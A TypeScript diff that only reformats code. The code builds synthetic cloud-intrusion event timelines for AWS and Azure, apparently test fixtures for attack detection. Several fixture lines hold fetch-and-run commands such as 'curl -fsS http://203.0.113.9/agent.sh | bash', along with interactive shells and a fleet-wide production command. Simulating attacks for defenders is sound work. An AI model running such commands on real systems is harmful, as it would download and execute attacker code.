@@ -14,10 +14,18 @@ export const tellStolenRole = (story: Story, date: string): void => {
   const commandId = story.send(at('02:41:10'), STOLEN, { instances: [instance(1)] }, [shell])
   story.guest(at('02:41:12'), instance(1), commandId, '/usr/bin/bash', 'bash -i')
   story.send(at('02:52:30'), STOLEN, { instances: FLEET })
-  story.send(at('03:05:00'), STOLEN, { targets: [{ key: 'tag:Environment', values: ['production'] }], maxConcurrency: '100%', maxErrors: '100%' })
+  story.send(at('03:05:00'), STOLEN, {
+    targets: [{ key: 'tag:Environment', values: ['production'] }],
+    maxConcurrency: '100%',
+    maxErrors: '100%',
+  })
 }
 
-const PROVIDER = person('support@example.com', 0x31, { ip: '203.0.113.40', tenant: PARTNER_TENANT, through: 'ForeignGroup' })
+const PROVIDER = person('support@example.com', 0x31, {
+  ip: '203.0.113.40',
+  tenant: PARTNER_TENANT,
+  through: 'ForeignGroup',
+})
 const ALICE = person('alice@example.com', 0x11, { ip: '203.0.113.41', client: AZURE_PORTAL })
 const BOB = person('bob@example.com', 0x12, { ip: '203.0.113.42' })
 
@@ -25,18 +33,54 @@ const BOB = person('bob@example.com', 0x12, { ip: '203.0.113.42' })
 export const tellAzureDay = (story: Story, date: string): void => {
   const at = (time: string): string => `${date}T${time}.000Z`
   const run = at('11:20:00')
-  story.operation(run, PROVIDER, 'Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-db-01'), { ends: [['Accept', 1], ['Success', 40]] })
-  story.start(later(run, 12), { host: 'VM-DB-01', executable: 'C:\\Windows\\System32\\whoami.exe', commandLine: 'whoami /all', parent: runCommandScript(0), cloud: 'azure' })
-
-  story.operation(at('15:02:00'), ALICE, 'Microsoft.Compute/virtualMachines/extensions/write', `${vm('vm-web-02')}/extensions/HealthMonitor`, {
-    requestBody: { location: 'westeurope', properties: { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript', typeHandlerVersion: '2.1', settings: { commandToExecute: 'curl -fsS http://203.0.113.9/agent.sh | bash' } } },
+  story.operation(run, PROVIDER, 'Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-db-01'), {
+    ends: [
+      ['Accept', 1],
+      ['Success', 40],
+    ],
+  })
+  story.start(later(run, 12), {
+    host: 'VM-DB-01',
+    executable: 'C:\\Windows\\System32\\whoami.exe',
+    commandLine: 'whoami /all',
+    parent: runCommandScript(0),
+    cloud: 'azure',
   })
 
+  story.operation(
+    at('15:02:00'),
+    ALICE,
+    'Microsoft.Compute/virtualMachines/extensions/write',
+    `${vm('vm-web-02')}/extensions/HealthMonitor`,
+    {
+      requestBody: {
+        location: 'westeurope',
+        properties: {
+          publisher: 'Microsoft.Azure.Extensions',
+          type: 'CustomScript',
+          typeHandlerVersion: '2.1',
+          settings: { commandToExecute: 'curl -fsS http://203.0.113.9/agent.sh | bash' },
+        },
+      },
+    },
+  )
+
   const runbook = `${AUTOMATION_ACCOUNT}/runbooks/Sync-Inventory`
-  const steps = ['runbooks/write', 'runbooks/draft/content/write', 'runbooks/publish/action'].map((step) => `Microsoft.Automation/automationAccounts/${step}`)
-  for (const [place, step] of steps.entries()) story.listed(later(at('19:30:00'), place * 20), BOB, step, runbook, { ends: [['Success', 2]] })
-  story.listed(at('19:31:30'), BOB, 'Microsoft.Automation/automationAccounts/jobs/write', `${AUTOMATION_ACCOUNT}/jobs/sync-1`, { ends: [['Success', 2]] })
-  story.listed(at('19:33:00'), BOB, 'Microsoft.Automation/automationAccounts/runbooks/delete', runbook, { ends: [['Success', 2]] })
+  const steps = ['runbooks/write', 'runbooks/draft/content/write', 'runbooks/publish/action'].map(
+    (step) => `Microsoft.Automation/automationAccounts/${step}`,
+  )
+  for (const [place, step] of steps.entries())
+    story.listed(later(at('19:30:00'), place * 20), BOB, step, runbook, { ends: [['Success', 2]] })
+  story.listed(
+    at('19:31:30'),
+    BOB,
+    'Microsoft.Automation/automationAccounts/jobs/write',
+    `${AUTOMATION_ACCOUNT}/jobs/sync-1`,
+    { ends: [['Success', 2]] },
+  )
+  story.listed(at('19:33:00'), BOB, 'Microsoft.Automation/automationAccounts/runbooks/delete', runbook, {
+    ends: [['Success', 2]],
+  })
 }
 
 const PARTNER_KEY = 'ASIAEXAMPLEKEY000077'
@@ -52,9 +96,25 @@ export const tellLastDay = (story: Story, date: string): void => {
 
   const task = 'arn:aws:ecs:eu-west-1:123456789012:task/shop/0123456789abcdef0123456789abcdef'
   const command = 'sh -c "curl -fsS http://203.0.113.9/i.sh | sh"'
-  story.event(story.cloudTrail.call(at('13:15:00'), OPERATIONS, 'ecs:ExecuteCommand', { cluster: 'shop', task, container: 'web', command, interactive: true }, { taskArn: task, containerName: 'web', session: { sessionId: 'ecs-execute-command-0123456789abcdef0' } }))
+  story.event(
+    story.cloudTrail.call(
+      at('13:15:00'),
+      OPERATIONS,
+      'ecs:ExecuteCommand',
+      { cluster: 'shop', task, container: 'web', command, interactive: true },
+      { taskArn: task, containerName: 'web', session: { sessionId: 'ecs-execute-command-0123456789abcdef0' } },
+    ),
+  )
 
-  story.trail.push(...story.cloudTrail.changeUserData([at('16:40:00'), at('16:41:05'), at('16:41:30')], TEMPORARY, instance(4)))
+  story.trail.push(
+    ...story.cloudTrail.changeUserData([at('16:40:00'), at('16:41:05'), at('16:41:30')], TEMPORARY, instance(4)),
+  )
 
-  story.start(at('21:10:00'), { host: 'VM-APP-03', executable: 'C:\\Windows\\System32\\cmd.exe', commandLine: '"cmd" /Cpowershell  -ExecutionPolicy Unrestricted -File script7.ps1', parent: 'C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\bin\\RunCommandExtension.exe', cloud: 'azure' })
+  story.start(at('21:10:00'), {
+    host: 'VM-APP-03',
+    executable: 'C:\\Windows\\System32\\cmd.exe',
+    commandLine: '"cmd" /Cpowershell  -ExecutionPolicy Unrestricted -File script7.ps1',
+    parent: 'C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\bin\\RunCommandExtension.exe',
+    cloud: 'azure',
+  })
 }
